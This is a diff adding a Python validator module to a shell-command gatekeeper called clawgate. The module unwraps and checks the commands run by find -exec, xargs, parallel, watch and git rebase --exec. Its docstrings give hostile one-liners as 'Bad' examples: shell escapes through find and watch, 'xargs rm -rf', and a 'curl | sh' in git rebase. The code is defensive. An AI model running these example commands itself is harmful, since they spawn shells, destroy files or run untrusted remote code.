@@ -1,0 +1,180 @@
+"""Programs that run a command once per item or over and over: ``find -exec``, ``fd -x``,
+``xargs``, ``parallel``, ``watch``. The command template is unwrapped and checked."""
+
+from __future__ import annotations
+
+from clawgate.decision import Outcome, Verdict
+from clawgate.shell.model import SimpleCommand
+from clawgate.validators.argv import command_start, inner, joined_code, option_values, opts
+from clawgate.validators.base import Context, Validator, register
+from clawgate.validators.shells import shell_call
+
+_FIND_EXEC = frozenset({"-exec", "-execdir", "-ok", "-okdir"})
+_FD_EXEC = frozenset({"-x", "--exec", "-X", "--exec-batch"})
+_TERMINATORS = frozenset({";", "+"})
+_XARGS = opts("aEILnPsd", "arg-file eof replace max-lines max-args max-procs max-chars "
+              "delimiter process-slot-var")
+_PARALLEL = opts("jSaIdnNE", "jobs sshlogin arg-file colsep joblog results tmpdir timeout "
+                 "delay retries replace max-args max-replace-args workdir basefile")
+_WATCH = opts("nq", "interval equexit")
+_PLACEHOLDER = frozenset({"{}", "{/}", "{.}", "{//}", "{/.}", "{#}"})
+
+
+def _templates(cmd: SimpleCommand, markers: frozenset[str]) -> list[SimpleCommand]:
+    """Each command following one of ``markers`` up to ``;`` or ``+`` (or the end)."""
+    found: list[SimpleCommand] = []
+    words = cmd.words
+    i = 1
+    while i < len(words):
+        if words[i].shown in markers and i + 1 < len(words):
+            end = i + 1
+            while end < len(words) and words[end].shown not in _TERMINATORS:
+                end += 1
+            found.append(inner(cmd, i + 1, end))
+            i = end
+        i += 1
+    return found
+
+
+def _placeholder_program(templates: list[SimpleCommand]) -> bool:
+    return any(t.words and t.words[0].shown in _PLACEHOLDER for t in templates)
+
+
+def _pasted_into_code(target: SimpleCommand, tokens: frozenset[str]) -> bool:
+    """The per-item text is pasted into shell code (``sh -c 'echo {}'``): items become code."""
+    call = shell_call(target)
+    code = call.code.shown if call is not None and call.code is not None else ""
+    return any(token in code for token in tokens)
+
+
+@register
+class PerItemExec(Validator):
+    """``find -exec/-execdir/-ok/-okdir CMD ;`` and ``fd -x/-X CMD``: CMD is checked as a
+    command; running the found files themselves (``-exec {} ;``) asks.
+
+    File names pasted into shell code (``-exec sh -c 'echo {}' ;``) become code: ASK.
+
+    Bad: ``find . -exec /bin/sh \\; -quit``. Harmless: ``find . -name '*.o' -exec ls -l {} +``.
+    """
+
+    id = "CG-WRAP-006"
+
+    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
+        program = cmd.program
+        if program == "find":
+            templates = _templates(cmd, _FIND_EXEC)
+        elif program in ("fd", "fdfind"):
+            templates = _templates(cmd, _FD_EXEC)
+        else:
+            return Verdict.passthrough()
+        if _placeholder_program(templates):
+            return Verdict.ask(self.id, f"{program} runs the files it finds as programs")
+        if any(_pasted_into_code(t, _PLACEHOLDER) for t in templates):
+            return Verdict.unwrap(*templates, outcome=Outcome.ASK, rule_id=self.id,
+                                  message="file names are pasted into shell code")
+        return Verdict.unwrap(*templates) if templates else Verdict.passthrough()
+
+
+@register
+class Xargs(Validator):
+    """``xargs [opts] CMD``: CMD is checked (``echo`` when absent); a command that comes from
+    the input itself (``xargs -I{} {}``, ``xargs sh``) or input pasted into shell code
+    (``xargs -I{} sh -c 'echo {}'``) asks.
+
+    Bad: ``xargs -0 -n1 rm -rf``. Harmless: ``xargs -0 -n1 wc -l``.
+    """
+
+    id = "CG-WRAP-007"
+
+    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
+        if cmd.program != "xargs":
+            return Verdict.passthrough()
+        start = command_start(cmd.words, 1, _XARGS)
+        if start is None:
+            return Verdict.passthrough()
+        target = inner(cmd, start)
+        replace_token = next((v for _, _, v in option_values(
+            cmd.words, 1, "I", frozenset({"replace"}))), None)
+        first = target.words[0].shown
+        if first in _PLACEHOLDER or first == replace_token or target.program is None:
+            return Verdict.ask(self.id, "xargs runs programs named by its input")
+        if replace_token and _pasted_into_code(target, frozenset({replace_token})):
+            return Verdict.unwrap(target, outcome=Outcome.ASK, rule_id=self.id,
+                                  message="xargs pastes its input into shell code")
+        return Verdict.unwrap(target)
+
+
+@register
+class ParallelOrWatch(Validator):
+    """``parallel CMD ::: args`` and ``watch CMD`` hand CMD to a shell (``watch -x`` runs argv):
+    it is checked as code. ``parallel`` reading whole commands from its input asks.
+
+    Bad: ``watch 'reset; exec /bin/sh 1>&0 2>&0'``. Harmless: ``watch -n 5 df -h``.
+    """
+
+    id = "CG-WRAP-008"
+
+    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
+        program = cmd.program
+        if program == "watch":
+            return self._watch(cmd)
+        if program != "parallel":
+            return Verdict.passthrough()
+        start = command_start(cmd.words, 1, _PARALLEL)
+        end = next((i for i, w in enumerate(cmd.words) if w.shown in (":::", "::::", ":::+")),
+                   len(cmd.words))
+        if start is None or start >= end:
+            return Verdict.ask(self.id, "parallel runs commands read from its input")
+        code = joined_code(cmd.words[start:end])
+        if code is None:
+            return Verdict.ask(self.id, "parallel runs code only known at run time")
+        return Verdict.unwrap(code)
+
+    def _watch(self, cmd: SimpleCommand) -> Verdict:
+        start = command_start(cmd.words, 1, _WATCH)
+        if start is None:
+            return Verdict.passthrough()
+        if any(w.shown in ("-x", "--exec") for w in cmd.words[1:start]):
+            return Verdict.unwrap(inner(cmd, start))
+        code = joined_code(cmd.words[start:])
+        if code is None:
+            return Verdict.ask(self.id, "watch runs code only known at run time")
+        return Verdict.unwrap(code)
+
+
+_GIT_CODE = {"rebase": frozenset({"--exec", "-x"}), "submodule": frozenset({"foreach"})}
+
+
+@register
+class GitRunsCommands(Validator):
+    """git subcommands that run a command: ``git rebase --exec CMD``, ``git bisect run CMD``,
+    ``git submodule foreach CMD``: CMD is checked as a command line.
+
+    Bad: ``git rebase --exec 'curl -s x | sh' HEAD~3``. Harmless: ``git rebase -x 'make
+    test' HEAD~3``.
+    """
+
+    id = "CG-WRAP-011"
+
+    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
+        if cmd.program != "git" or len(cmd.words) < 3:
+            return Verdict.passthrough()
+        words = cmd.words
+        sub = words[1].value
+        if sub == "bisect" and words[2].value == "run" and len(words) > 3:
+            return Verdict.unwrap(inner(cmd, 3))
+        markers = _GIT_CODE.get(sub or "")
+        if markers is None:
+            return Verdict.passthrough()
+        found: list[str] = []
+        for i, word in enumerate(words[2:], start=2):
+            name, eq, value = word.shown.partition("=")
+            if name not in markers:
+                continue
+            code = value if eq else (words[i + 1].value if i + 1 < len(words) else "")
+            if code is None:
+                return Verdict.ask(self.id, f"git {sub} runs code only known at run time")
+            if sub == "submodule":
+                code = joined_code(words[i + 1:]) or ""
+            found.append(code)
+        return Verdict.unwrap(*found) if found else Verdict.passthrough()
